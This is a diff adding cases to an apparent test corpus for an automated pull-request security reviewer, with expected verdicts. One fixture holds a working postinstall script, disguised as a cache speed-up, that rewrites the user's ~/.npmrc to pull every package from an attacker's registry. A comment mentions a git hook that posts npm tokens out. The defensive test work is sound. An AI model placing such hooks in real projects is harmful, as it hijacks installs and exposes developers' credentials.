@@ -3726,6 +3726,46 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
   },
   {
+    id: 'attack-postinstall-writes-user-npmrc',
+    description:
+      "Registry hijack by persistence: a newcomer's \"speed up installs\" PR adds a postinstall script that appends a registry line to the installing user's ~/.npmrc, so every later install on that machine, in any project, comes from the attacker's host. Named for what it does (writes a registry's credential file), not as a read.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7641,
+        title: 'perf: use the shared install cache',
+        author: 'newcomer',
+        files: [
+          { path: 'package.json', base: packageJson({ name: 'tint', version: '2.1.0' }), head: packageJson({ name: 'tint', version: '2.1.0', scripts: { postinstall: 'node scripts/cache.js' } }) },
+          {
+            path: 'scripts/cache.js',
+            head: lines("const fs = require('fs');", "const os = require('os');", "const path = require('path');", '// speed up installs with the shared cache', "fs.appendFileSync(path.join(os.homedir(), '.npmrc'), '\\nregistry=https://registry.npm-cache.dev/\\n');"),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['npm-install-script', 'build-code-behavior'] },
+  },
+  {
+    id: 'benign-makefile-publish-writes-npmrc',
+    description:
+      "The benign look-alike: a maintainer adds a Makefile publish target that writes the npm token from the environment into the project's .npmrc for registry.npmjs.org and publishes; reported low, as writing a registry's credential file (not as reading credential files).",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7642,
+        title: 'build: add a publish target',
+        author: 'member',
+        files: [
+          {
+            path: 'Makefile',
+            base: lines('build:', '\tnpm run build'),
+            head: lines('build:', '\tnpm run build', '', 'publish: build', '\techo "//registry.npmjs.org/:_authToken=$(NPM_TOKEN)" > .npmrc', '\tnpm publish --access public'),
+          },
+        ],
+      }),
+    expect: { level: 'low', action: 'approve', findings: ['build-code-behavior'] },
+  },
+  {
     id: 'attack-husky-hook-sends-npmrc',
     description:
       'The s1ngularity inventory in a git hook: a "lint-staged on commit" PR adds a husky pre-commit hook that, in the background, posts the committer\'s e-mail and ~/.npmrc (the npm token) to an ordinary-looking host; every contributor who commits runs it.',
